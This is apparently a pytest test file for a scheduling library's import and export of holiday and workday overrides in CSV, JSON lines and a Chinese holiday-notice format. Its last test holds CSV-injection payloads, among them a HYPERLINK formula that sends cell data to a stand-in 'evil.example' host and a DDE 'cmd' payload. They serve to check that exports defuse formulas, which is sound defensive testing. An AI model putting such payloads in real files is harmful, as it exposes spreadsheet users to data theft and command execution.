"""Overrides from and to files: CSV, JSON lines and the State Council notice form."""

from __future__ import annotations

from datetime import date

import pytest

from schedkit.calendars import (
    CalendarImportError,
    Override,
    OverrideKind,
    export_overrides,
    format_for,
    parse_overrides,
)
from schedkit.errors import ValidationError

NOTICE_2026 = """\
# 国务院办公厅关于2026年部分节假日安排的通知（节选）
放假 2026-01-01 至 2026-01-03 元旦
上班 2026-01-04 元旦调休
holiday 2026-02-15..2026-02-23 春节
workday 2026-02-14 春节调休
上班 2026-02-28 春节调休
"""


def test_notice_form_expands_ranges() -> None:
    items = parse_overrides(NOTICE_2026, "notice")
    closed = [o.date for o in items if not o.open]
    assert closed[:3] == [date(2026, 1, 1), date(2026, 1, 2), date(2026, 1, 3)]
    assert len(closed) == 3 + 9
    assert {o.kind for o in items if not o.open} == {OverrideKind.HOLIDAY}
    makeup = [(o.date, o.kind, o.note) for o in items if o.open]
    assert makeup == [
        (date(2026, 1, 4), OverrideKind.MAKEUP_WORKDAY, "元旦调休"),
        (date(2026, 2, 14), OverrideKind.MAKEUP_WORKDAY, "春节调休"),
        (date(2026, 2, 28), OverrideKind.MAKEUP_WORKDAY, "春节调休"),
    ]


def test_notice_form_agrees_with_the_official_package_on_2026() -> None:
    from schedkit.calendars import Base, Calendar, CalendarSet

    items = parse_overrides(NOTICE_2026, "notice")
    typed = CalendarSet(
        calendars={"typed": Calendar(name="typed", base=Base.CN_WORKDAYS, overrides=tuple(items))}
    )
    official = CalendarSet()
    for item in items:
        assert (
            typed.decide("typed", item.date).open == official.decide("cn_workdays", item.date).open
        ), item.date


def test_bad_notice_lines_are_each_reported() -> None:
    text = "\n".join(
        [
            "放假 2027-01-01 至 2027-01-03 元旦",
            "休息 2027-01-04",  # unknown word
            "放假 2027-02-10 至 2027-02-05",  # reversed
            "上班 2027-02-30",  # no such date
            "放假 2027-01-03",  # given on line 1 already
            "放假 2027-07-01 至 2027-08-15 暑假",  # too long
            "元旦放假三天",  # not the form
        ]
    )
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(text, "notice")
    lines = {e.line: e.message for e in caught.value.lines}
    assert sorted(lines) == [2, 3, 4, 5, 6, 7]
    assert "unknown word '休息'" in lines[2]
    assert "ends (2027-02-05) before it starts (2027-02-10)" in lines[3]
    assert "invalid date '2027-02-30'" in lines[4]
    assert lines[5] == "2027-01-03 is already given on line 1"
    assert "more than 31 days" in lines[6]
    assert "expected '放假 <date>" in lines[7]
    assert caught.value.message.startswith("6 bad lines: line 2: ")
    assert caught.value.field == "file"


def test_csv_with_header_comments_and_defaults() -> None:
    text = (
        "date,status,kind,note\n"
        "# 山东现货交易日\n"
        "2026-01-05,open,trading_day,首个交易日\n"
        "2026-01-06,open,,\n"
        '2026-01-07,closed,extra_closed,"系统升级, 停市"\n'
        "2026-01-08,open\n"
    )
    items = parse_overrides(text, "csv")
    assert [(o.date.day, o.open, o.kind, o.note) for o in items] == [
        (5, True, OverrideKind.TRADING_DAY, "首个交易日"),
        (6, True, OverrideKind.EXTRA_OPEN, None),
        (7, False, OverrideKind.EXTRA_CLOSED, "系统升级, 停市"),
        (8, True, OverrideKind.EXTRA_OPEN, None),
    ]


def test_bad_csv_lines_are_each_reported() -> None:
    text = (
        "2026-01-05,open,trading_day\n"
        "2026-01-06,maybe\n"
        "2026-01-07,open,holiday\n"
        "01/08/2026,open\n"
        "2026-01-09\n"
        "2026-01-05,closed\n"
    )
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(text, "csv")
    lines = {e.line: e.message for e in caught.value.lines}
    assert sorted(lines) == [2, 3, 4, 5, 6]
    assert "status must be 'open' or 'closed'" in lines[2]
    assert "a holiday day is closed, not open" in lines[3]
    assert lines[4].startswith("date: ")
    assert "expected date,status" in lines[5]
    assert "already given on line 1" in lines[6]


def test_jsonl_and_its_errors() -> None:
    good = '{"date": "2027-01-01", "open": false, "kind": "holiday", "note": "元旦"}\n'
    (item,) = parse_overrides(good, "jsonl")
    assert item == Override(
        date=date(2027, 1, 1), open=False, kind=OverrideKind.HOLIDAY, note="元旦"
    )
    bad = good + '{"date": "2027-01-02", "open": false\n[1, 2]\n{"date": "2027-01-03"}\n'
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(bad, "jsonl")
    lines = {e.line: e.message for e in caught.value.lines}
    assert sorted(lines) == [2, 3, 4]
    assert lines[2].startswith("not JSON")
    assert "expected a JSON object, got list" in lines[3]
    assert lines[4].startswith("open: Field required")


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "notice"])
def test_export_reads_back(fmt: str) -> None:
    items = parse_overrides(NOTICE_2026, "notice")
    text = export_overrides(reversed(items), fmt)  # type: ignore[arg-type]
    assert parse_overrides(text, fmt) == sorted(items, key=lambda o: o.date)  # type: ignore[arg-type]


def test_notice_export_groups_ranges() -> None:
    text = export_overrides(parse_overrides(NOTICE_2026, "notice"), "notice")
    assert text.splitlines() == [
        "放假 2026-01-01 至 2026-01-03 元旦",
        "上班 2026-01-04 元旦调休",
        "上班 2026-02-14 春节调休",
        "放假 2026-02-15 至 2026-02-23 春节",
        "上班 2026-02-28 春节调休",
    ]


def test_notice_export_refuses_other_kinds() -> None:
    item = Override(date=date(2026, 1, 5), open=True, kind=OverrideKind.TRADING_DAY)
    with pytest.raises(ValidationError, match="holidays and make-up workdays only; not 2026-01-05"):
        export_overrides([item], "notice")


def test_format_for_file_names() -> None:
    assert format_for("spot-2027.CSV") == "csv"
    assert format_for("overrides.jsonl") == "jsonl"
    assert format_for("notice-2027.txt") == "notice"
    with pytest.raises(ValidationError, match=r"cannot tell the format of 'a\.xlsx'"):
        format_for("a.xlsx")


@pytest.mark.parametrize(
    "line",
    [
        "holiday 2027-01-01 to 2027-01-03 New Year",
        "放假 2027-01-01 - 2027-01-03 New Year",
        "放假 2027-01-01 – 2027-01-03 New Year",
        "放假 2027-01-01—2027-01-03 New Year",
        "holiday 2027-01-01 TO 2027-01-03 New Year",
    ],
)
def test_a_range_may_be_written_with_to_or_a_dash(line: str) -> None:
    """An audit: ``to``, `` - ``, ``–`` and ``—`` were not range separators, so the range
    was cut to its first day and the rest (``to 2027-01-03 …``) became the note."""
    items = parse_overrides(line, "notice")
    assert [(o.date.day, o.note) for o in items] == [
        (1, "New Year"),
        (2, "New Year"),
        (3, "New Year"),
    ]


@pytest.mark.parametrize(
    "line",
    [
        "放假 2027-01-01 through 2027-01-03 元旦",
        "放假 2027-01-01 -> 2027-01-03 元旦",
        "放假 2027-01-01 -> 01-03 元旦",
        "放假 2027-01-01 1月3日 元旦",
        "放假 2027-01-01 3日 元旦",
        "放假 2027-01-01 3 元旦",
        "放假 2027-01-01 -> 3 元旦",
        "放假 2027-01-01 至 01-02 至 01-03 元旦",
    ],
)
def test_a_second_date_a_range_cannot_be_read_from_is_refused(line: str) -> None:
    """A range written some other way is refused rather than cut to its first day."""
    with pytest.raises(CalendarImportError, match="line 1: a second date after 2027-01-01"):
        parse_overrides(line, "notice")


def test_a_note_may_follow_a_single_day_after_a_dash_or_name_a_date() -> None:
    assert [(o.date.day, o.note) for o in parse_overrides("放假 2027-01-01 - 元旦", "notice")] == [
        (1, "元旦")
    ]
    text = "上班 2027-02-20 春节调休（补 2027-02-12）"
    assert [o.note for o in parse_overrides(text, "notice")] == ["春节调休（补 2027-02-12）"]


def test_a_make_up_workday_on_a_weekday_is_refused_in_a_notice() -> None:
    """An audit: ``上班 2027-01-04 调休`` (a Monday, a workday anyway) was accepted; a
    make-up workday is a weekend day worked instead of a holiday."""
    text = "放假 2027-01-01 元旦\n上班 2027-01-04 调休\n上班 2027-01-09 调休\n"
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(text, "notice", notice_year=2027)
    assert [(e.line, e.message) for e in caught.value.lines] == [
        (
            2,
            "2027-01-04 is a Monday: a make-up workday (上班) is a Saturday or Sunday "
            "worked instead of a holiday",
        )
    ]
    csv_text = "2027-01-01,closed,holiday\n2027-01-05,open,makeup_workday\n"
    with pytest.raises(CalendarImportError, match="line 2: 2027-01-05 is a Tuesday"):
        parse_overrides(csv_text, "csv", notice_year=2027)
    # Outside a notice (a calendar's own overrides) an open weekday is the caller's business.
    assert len(parse_overrides("上班 2027-01-04 调休", "notice")) == 1


def test_a_notice_line_outside_its_year_names_the_days_it_may_set() -> None:
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides("放假 2026-12-20 元旦\n", "notice", notice_year=2027)
    assert caught.value.lines[0].message == (
        "2026-12-20 is not a day a 2027 notice sets: it sets days of 2027 "
        "(and 28-31 December 2026, for New Year's Day)"
    )


@pytest.mark.parametrize(
    "line",
    [
        "放假 2027-02-05 至2027-02-13春节",
        "放假 2027-02-05至2027-02-13 春节",
        "放假 2027-02-05 至 02-13 春节",
        "放假 2027-02-05 至 2-13 春节",
        "放假 2027-02-05 至 2月13日 春节",
        "放假 2027-02-05至2月13日春节",
        "放假 2027-02-05 至 13日 春节",
        "放假 2027-02-05 至 13 春节",
        "放假 2027-02-05 至 2027/02/13 春节",
        "放假 2027-02-05 至 2027.02.13 春节",
        "放假 2027-02-05 至 2027年2月13日 春节",
        "放假 2027-02-05 到 2/13 春节",
        "放假 2027-02-05~02-13 春节",
        "放假 2027-02-05 – 02-13 春节",
        "放假 2027-02-05 — 13 春节",
        "放假 2027-02-05—13 春节",
        "放假 2027-02-05 - 2-13 春节",
        "放假 2027-02-05-2027-02-13 春节",
        "放假 2027-02-05-13 春节",
        "holiday 2027-02-05 to 02-13 春节",
        "holiday 2027-02-05 to 2.13 春节",
    ],
)
def test_the_end_of_a_range_is_read_as_people_type_it(line: str) -> None:
    """An audit (the 2027 notice): an end date without a space before the note, or not a
    full YYYY-MM-DD, was not read; the line became one day, the rest its note."""
    items = parse_overrides(line, "notice", notice_year=2027)
    assert [o.date for o in items] == [date(2027, 2, day) for day in range(5, 14)]
    assert {o.note for o in items} == {"春节"}


@pytest.mark.parametrize(
    "line",
    [
        "放假 2027-02-05 至 二月十三日 春节",
        "放假 2027-02-05 至 春节",
        "放假 2027-02-05 至",
        "放假 2027-02-05 到 2月 春节",
        "放假 2027-02-05 至 13春节",
        "放假 2027-02-05 至 2027-02-13-15 春节",
        "放假 2027-02-05 至 02/13/2027 春节",
        "放假 2027-02-05 ~ 2027/02-13 春节",
        "放假 2027-02-05 - 13天 春节",
        "放假 2027-02-05 — 二月十三日 春节",
        "holiday 2027-02-05 to Feb 13 Spring Festival",
        "holiday 2027-02-05 to",
    ],
)
def test_a_range_whose_end_cannot_be_read_is_refused_whole(line: str) -> None:
    """Something after the start that begins a range but cannot be read as one refuses
    the line, naming it and what was expected, never cuts it to one day."""
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(line, "notice", notice_year=2027)
    (error,) = caught.value.lines
    assert error.line == 1
    assert error.message.startswith("the end of the range after 2027-02-05 cannot be read in ")
    assert "expected YYYY-MM-DD, YYYY/MM/DD, YYYY.MM.DD, MM-DD, M月D日 or D日" in error.message


def test_an_end_read_without_its_year_is_in_the_start_s_year() -> None:
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides("放假 2026-12-31 至 01-02 元旦\n放假 2027-02-05 至 03-20 春节", "notice")
    assert [(e.line, e.message) for e in caught.value.lines] == [
        (
            1,
            "the range ends (2026-01-02) before it starts (2026-12-31): an end without a year "
            "is read in the start's year; give the year of an end in the next year",
        ),
        (2, "a range of more than 31 days is not a holiday"),
    ]
    items = parse_overrides("放假 2026-12-31 至 2027-01-02 元旦", "notice")
    assert [o.date.isoformat() for o in items] == ["2026-12-31", "2027-01-01", "2027-01-02"]
    with pytest.raises(CalendarImportError, match=r"invalid date '2027-02-30'"):
        parse_overrides("放假 2027-02-05 至 2月30日 春节", "notice")


@pytest.mark.parametrize(
    ("line", "days", "note"),
    [
        ("放假 2027-10-01 至 10-07 国庆节、中秋节", 7, "国庆节、中秋节"),
        ("上班 2027-09-26 国庆节调休（星期日）", 1, "国庆节调休（星期日）"),
        ("放假 2027-02-06 2027年春节", 1, "2027年春节"),
        ("放假 2027-02-06 至 02-13 2027年春节", 8, "2027年春节"),
        ("放假 2027-01-01", 1, None),
        ("放假 2027-01-01 至 2027-01-03", 3, None),
        ("放假 2027-01-01 - 元旦", 1, "元旦"),
        ("workday 2027-02-20 to make up for Spring Festival", 1, "to make up for Spring Festival"),
        ("上班 2027-02-20 春节调休（补 2027-02-12）", 1, "春节调休（补 2027-02-12）"),
        ("放假 2027-02-05 至 2027-02-13（春节）", 9, "（春节）"),
        ("workday 2027-02-20 Day 1 after Spring Festival", 1, "Day 1 after Spring Festival"),
    ],
)
def test_single_days_and_notes_with_digits_still_read(line: str, days: int, note: str) -> None:
    items = parse_overrides(line, "notice", notice_year=2027)
    assert (len(items), {o.note for o in items}) == (days, {note})


DEEP = "[" * 5000 + "]" * 5000


def test_a_json_line_too_deep_or_with_a_huge_number_is_a_bad_line_among_the_others() -> None:
    """An audit: a note nested 5,000 levels deep raised RecursionError, one of 5,000 digits
    ValueError, out of the reader (a 500; the CLI's "unexpected error"), and the other bad
    lines of the file were not reported."""
    text = "\n".join(
        [
            '{"date": "2027-01-04", "open": false, "note": "ok"}',
            "not json",
            '{"date": "2027-01-05", "open": false, "note": ' + DEEP + "}",
            '{"date": "2027-01-06", "open": false, "note": ' + "1" * 5000 + "}",
            '{"date": "2027-01-07", "open": false, "note": ' + "[" * 101 + "]" * 101 + "}",
            '{"date": "2027-01-08", "open": false, "note": "' + "[" * 500 + '"}',
        ]
    )
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(text, "jsonl")
    lines = {e.line: e.message for e in caught.value.lines}
    assert sorted(lines) == [2, 3, 4, 5, 6]
    assert lines[2] == "not JSON (Expecting value, column 1)"
    assert lines[3] == lines[5] == "nested more than 100 levels deep (arrays and objects)"
    assert lines[4] == "a number of more than 4,300 digits (the most an integer may have)"
    assert lines[6].startswith("note: String should have at most 200 characters")


def test_a_csv_line_the_csv_reader_refuses_is_a_bad_line_among_the_others() -> None:
    """An audit: a field over the csv module's 131,072 characters raised csv.Error out of
    the reader."""
    text = f"2027-01-04,closed,,ok\n2027-01-05,maybe\n2027-01-06,closed,,{'x' * 140_000}\n"
    with pytest.raises(CalendarImportError) as caught:
        parse_overrides(text, "csv")
    lines = {e.line: e.message for e in caught.value.lines}
    assert sorted(lines) == [2, 3]
    assert lines[3] == "a field longer than 131,072 characters (the most one may hold)"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1 day shift",
    "@SUM(1+1)",
    "'=already quoted",
    "''-twice",
    "'plain quote",
    "a = b",
    "盘点",
]


def test_csv_export_writes_formula_like_notes_as_text_and_reads_them_back() -> None:
    """An audit: an admin's note ``=HYPERLINK(...)`` or ``+cmd|...`` was exported as it
    is, a formula to whoever opens the export in a spreadsheet (CSV injection)."""
    items = [
        Override(date=date(2027, 3, 1 + n), open=False, kind=OverrideKind.EXTRA_CLOSED, note=note)
        for n, note in enumerate(FORMULAS)
    ]
    text = export_overrides(items, "csv")
    notes = [line.split(",", 3)[3] for line in text.splitlines()[1:]]
    assert notes == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
        "'+cmd|' /C calc'!A0",
        "'-1 day shift",
        "'@SUM(1+1)",
        "''=already quoted",
        "'''-twice",
        "'plain quote",
        "a = b",
        "盘点",
    ]
    assert parse_overrides(text, "csv") == items
